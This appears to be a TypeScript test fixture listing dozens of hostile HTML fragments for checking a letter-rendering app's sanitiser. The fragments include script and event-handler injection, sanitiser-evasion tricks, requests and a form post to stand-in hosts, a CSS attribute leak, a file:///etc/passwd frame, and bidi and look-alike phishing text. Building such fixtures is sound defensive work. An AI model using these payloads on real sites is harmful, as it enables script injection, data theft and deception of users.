/**
 * Pieces of HTML that would run, load, send, open or deceive if anything drew them as a page. All are made up for these
 * tests; they name only hosts and addresses that are reserved for documentation.
 */

/** A host for each vector, so that a request tells which of them it came from. */
export const hostileHost = (name: string): string => `${name}.hostile.test`
const at = (name: string, path = '') => `http://${hostileHost(name)}/${path}`
/** An address of TEST-NET-1, for what would not ask for a name. */
export const hostileAddress = '192.0.2.7'

/** What a script of a letter would leave behind in the page that ran it. */
const mark = (name: string) => `self.hostileRan='${name}';document.title='hostile'`

type Vector = readonly [name: string, markup: (name: string) => string]

const scripts: readonly Vector[] = [
  ['script-inline', (name) => `<script>${mark(name)}</script>`],
  ['script-src', (name) => `<script src="${at(name, 'a.js')}"></script>`],
  ['script-module', (name) => `<script type="module">import '${at(name, 'm.js')}'</script>`],
  ['script-data', (name) => `<script src="data:text/javascript,${encodeURIComponent(mark(name))}"></script>`],
  ['script-split', (name) => `<scr<script></script>ipt>${mark(name)}</scr</script>ipt>`],
  ['script-entities', (name) => `&lt;script&gt;${mark(name)}&lt;/script&gt;`],
  ['script-double-entities', (name) => `&amp;lt;script&amp;gt;${mark(name)}&amp;lt;/script&amp;gt;`],
  ['script-in-noscript', (name) => `<noscript><p title="</noscript><img src=x onerror=${mark(name)}>">`],
  ['script-in-template', (name) => `<template><script>${mark(name)}</script></template>`],
  ['script-in-comment', (name) => `<!--><img src=x onerror="${mark(name)}">-->`],
  ['script-in-title', (name) => `<title></title><svg onload="${mark(name)}"></svg></title>`],
  ['script-in-textarea', (name) => `<textarea></textarea><img src=x onerror="${mark(name)}"></textarea>`],
  ['handler-image', (name) => `<img src="x" onerror="${mark(name)}">`],
  ['handler-body', (name) => `<body onload="${mark(name)}" onpageshow="${mark(name)}">`],
  ['handler-details', (name) => `<details open ontoggle="${mark(name)}"><summary>more</summary></details>`],
  ['handler-focus', (name) => `<input autofocus onfocus="${mark(name)}">`],
  [
    'handler-animation',
    (name) =>
      `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${mark(name)}">moving</p>`,
  ],
  ['handler-marquee', (name) => `<marquee onstart="${mark(name)}">news</marquee>`],
  ['handler-pointer', (name) => `<p onpointerover="${mark(name)}" onclick="${mark(name)}">touch</p>`],
  ['handler-media', (name) => `<video><source onerror="${mark(name)}"></video>`],
  ['handler-newline', (name) => `<img src=x on\nerror="${mark(name)}" onerror\n=\n"${mark(name)}">`],
  ['handler-slash', (name) => `<svg/onload=${mark(name)}//`],
  ['link-javascript', (name) => `<a href="javascript:${mark(name)}">read on</a>`],
  ['link-javascript-tab', (name) => `<a href="java&#9;script:${mark(name)}">read on</a>`],
  ['link-javascript-control', (name) => `<a href="&#1;javascript:${mark(name)}">read on</a>`],
  ['link-vbscript', () => '<a href="vbscript:MsgBox(1)">read on</a>'],
  [
    'link-data',
    (name) => `<a href="data:text/html,${encodeURIComponent(`<script>${mark(name)}</script>`)}">read on</a>`,
  ],
  ['form-action', (name) => `<form action="javascript:${mark(name)}"><button autofocus>go</button></form>`],
  [
    'form-button',
    (name) => `<form id="f"></form><button form="f" formaction="javascript:${mark(name)}">go</button>`,
  ],
]

const requests: readonly Vector[] = [
  ['image', (name) => `<img src="${at(name, 'p.png')}">`],
  ['image-address', () => `<img src="http://${hostileAddress}/p.png">`],
  ['image-address-six', () => '<img src="http://[2001:db8::7]/p.png">'],
  ['image-srcset', (name) => `<img srcset="${at(name, '1.png')} 1x, ${at(name, '2.png')} 2x">`],
  [
    'image-lazy',
    (name) => `<img loading="eager" data-src="${at(name, 'd.png')}" src="${at(name, 'e.png')}">`,
  ],
  ['image-no-scheme', (name) => `<img src="//${hostileHost(name)}/p.png">`],
  ['image-input', (name) => `<input type="image" src="${at(name, 'i.png')}">`],
  ['picture', (name) => `<picture><source srcset="${at(name, 's.png')}"><img src="x"></picture>`],
  ['background', (name) => `<table background="${at(name, 'b.png')}"><tr><td>cell</td></tr></table>`],
  ['audio', (name) => `<audio autoplay src="${at(name, 'a.ogg')}"></audio>`],
  [
    'video-poster',
    (name) => `<video poster="${at(name, 'v.png')}" src="${at(name, 'v.webm')}" autoplay></video>`,
  ],
  ['video-track', (name) => `<video><track default src="${at(name, 't.vtt')}"></video>`],
  ['frame', (name) => `<iframe src="${at(name)}"></iframe>`],
  [
    'frame-srcdoc',
    (name) => `<iframe srcdoc="<script>${mark(name)}</script><img src='${at(name, 'p.png')}'>"></iframe>`,
  ],
  ['frame-file', () => '<iframe src="file:///etc/passwd"></iframe>'],
  ['frame-app', () => '<iframe src="app://letterbook/index.html"></iframe>'],
  ['frame-set', (name) => `<frameset><frame src="${at(name)}"></frameset>`],
  ['object', (name) => `<object data="${at(name, 'o.swf')}"></object>`],
  ['embed', (name) => `<embed src="${at(name, 'e.pdf')}">`],
  ['applet', (name) => `<applet code="A" archive="${at(name, 'a.jar')}"></applet>`],
  ['webview', (name) => `<webview src="${at(name)}" nodeintegration></webview>`],
  ['portal', (name) => `<portal src="${at(name)}"></portal>`],
  ['style-sheet', (name) => `<link rel="stylesheet" href="${at(name, 's.css')}">`],
  ['style-import', (name) => `<style>@import url("${at(name, 'i.css')}");</style>`],
  ['style-background', (name) => `<p style="background:url(${at(name, 'b.png')})">paper</p>`],
  [
    'style-font',
    (name) => `<style>@font-face{font-family:f;src:url(${at(name, 'f.woff')})}p{font-family:f}</style>`,
  ],
  ['style-cursor', (name) => `<p style="cursor:url('${at(name, 'c.cur')}'),auto">pointer</p>`],
  ['style-list', (name) => `<ul style="list-style-image:url(${at(name, 'l.png')})"><li>item</li></ul>`],
  ['style-leak', (name) => `<style>input[value^="a"]{background:url(${at(name, 'a')})}</style>`],
  ['style-content', (name) => `<style>p::before{content:url(${at(name, 'c.svg')})}</style>`],
  ['prefetch-name', (name) => `<link rel="dns-prefetch" href="//${hostileHost(name)}">`],
  ['preconnect', (name) => `<link rel="preconnect" href="${at(name)}">`],
  ['preload', (name) => `<link rel="preload" as="image" href="${at(name, 'p.png')}">`],
  ['prefetch', (name) => `<link rel="prefetch" href="${at(name, 'n.html')}">`],
  ['prerender', (name) => `<link rel="prerender" href="${at(name, 'n.html')}">`],
  [
    'prefetch-rules',
    (name) => `<script type="speculationrules">{"prefetch":[{"urls":["${at(name)}"]}]}</script>`,
  ],
  ['icon', (name) => `<link rel="icon" href="${at(name, 'i.ico')}">`],
  ['manifest', (name) => `<link rel="manifest" href="${at(name, 'm.json')}">`],
  ['base', (name) => `<base href="${at(name)}"><img src="relative.png">`],
  ['refresh', (name) => `<meta http-equiv="refresh" content="0;url=${at(name)}">`],
  ['refresh-javascript', (name) => `<meta http-equiv="refresh" content="0;url=javascript:${mark(name)}">`],
  [
    'policy',
    () => `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline' 'unsafe-eval'">`,
  ],
  ['cookie', (name) => `<meta http-equiv="Set-Cookie" content="hostile=${name}">`],
  ['ping', (name) => `<a href="#here" ping="${at(name)}">here</a>`],
  [
    'form-send',
    (name) =>
      `<form action="${at(name)}" method="post"><input name="q" value="x"><button>send</button></form>`,
  ],
  ['link-blank', (name) => `<a href="${at(name)}" target="_blank">onwards</a>`],
  ['link-download', (name) => `<a href="${at(name, 'setup.exe')}" download>the letter</a>`],
  [
    'link-program',
    () =>
      '<a href="ms-msdt:/id">help</a> <a href="search-ms:query=x">find</a> <a href="mailto:a@hostile.test">write</a>',
  ],
  [
    'link-share',
    () =>
      `<a href="file:////${hostileAddress}/share/letter.desktop">enclosed</a> <img src="\\\\${hostileAddress}\\share\\p.png">`,
  ],
]

const drawings: readonly Vector[] = [
  ['svg-script', (name) => `<svg><script>${mark(name)}</script></svg>`],
  [
    'svg-image',
    (name) => `<svg><image href="${at(name, 'p.png')}" xlink:href="${at(name, 'q.png')}"/></svg>`,
  ],
  ['svg-use', (name) => `<svg><use href="${at(name, 's.svg')}#x"/></svg>`],
  [
    'svg-animate',
    (name) =>
      `<svg><a><animate attributeName="href" values="javascript:${mark(name)}"/><text y="20">go</text></a></svg>`,
  ],
  [
    'svg-foreign',
    (name) => `<svg><foreignObject><iframe src="javascript:${mark(name)}"></iframe></foreignObject></svg>`,
  ],
  ['svg-filter', (name) => `<svg><filter><feImage href="${at(name, 'f.png')}"/></filter></svg>`],
  ['svg-style', (name) => `<svg><style>@import '${at(name, 's.css')}';</style></svg>`],
  [
    'svg-data',
    (name) =>
      `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${mark(name)}"/>`)}">`,
  ],
  [
    'math-link',
    (name) => `<math><mi xlink:href="javascript:${mark(name)}" href="javascript:${mark(name)}">x</mi></math>`,
  ],
  [
    'math-nested',
    (name) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark(name)}&gt;">`,
  ],
  [
    'math-action',
    (name) =>
      `<math><maction actiontype="statusline#${at(name)}" xlink:href="${at(name)}">x</maction></math>`,
  ],
]

const deceptions: readonly Vector[] = [
  ['bidi-override', () => '<p>invoice \u202Efdp.exe\u202C and \u2066hidden\u2069 words</p>'],
  ['bidi-entities', () => '<p>sum &#8238;001$&#8236; of money</p>'],
  ['zero-width', () => '<p>pay\u200B\u200C\u2060\uFEFFpal and mem\u00ADber</p>'],
  ['look-alike', () => '<p>\u0440\u0430ypal and \u{1D41B}ank</p>'],
  ['tag-characters', () => '<p>plain\u{E0049}\u{E0047}\u{E004E}\u{E007F} words</p>'],
  ['stacked-marks', () => `<p>te${'\u0335\u0321'.repeat(300)}xt</p>`],
  ['overlay', () => '<div style="position:fixed;inset:0;z-index:2147483647;opacity:0">your passphrase</div>'],
  [
    'overlay-dialog',
    () =>
      '<dialog open style="position:fixed;inset:0">Enter your passphrase <input type="password"></dialog>',
  ],
  [
    'names-of-the-page',
    () =>
      '<form id="letterbook" name="letterbook"><input name="call"></form><img name="body"><a id="root">root</a>',
  ],
  ['prototype', () => '<p id="__proto__">one</p><p id="constructor">two</p>'],
  ['null-signs', (name) => `<p>nul\u0000l</p><scr\u0000ipt>${mark(name)}</script>`],
  ['endings', () => '<plaintext><xmp></xmp><listing>\u2028\u2029\u0085</listing>'],
]

export interface HostilePiece {
  readonly name: string
  readonly markup: string
}

export const hostilePieces: readonly HostilePiece[] = [
  ...scripts,
  ...requests,
  ...drawings,
  ...deceptions,
].map(([name, markup]) => ({ name, markup: markup(name) }))

/** Words that stand beside each piece: where they can be read, its letter was read as text. */
export const wordsOf = (name: string): string => `Words beside ${name} are still read.`

/** A page with one piece in it. */
export function hostilePage({ name, markup }: HostilePiece): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>Vector ${name}</title></head><body>
<p>1 May 1901</p><p>Dear council,</p><p>The sluice at ${name} is old.</p>
<p>${wordsOf(name)}</p>
${markup}
</body></html>`
}

/** Everything that loads something or runs, in one page: as dead as its parts, or the control of a test that sees nothing. */
export function pageOfAllPieces(): string {
  const harmful = [...scripts, ...requests, ...drawings].filter(
    ([name]) => !['frame-set', 'base', 'refresh', 'refresh-javascript', 'policy'].includes(name),
  )
  const pieces = harmful.map(([name, markup]) => `<div>${markup(name)}</div>`)
  return `<!doctype html><meta charset="utf-8"><title>All vectors</title>\n${pieces.join('\n')}\n<p>The last words.</p>`
}
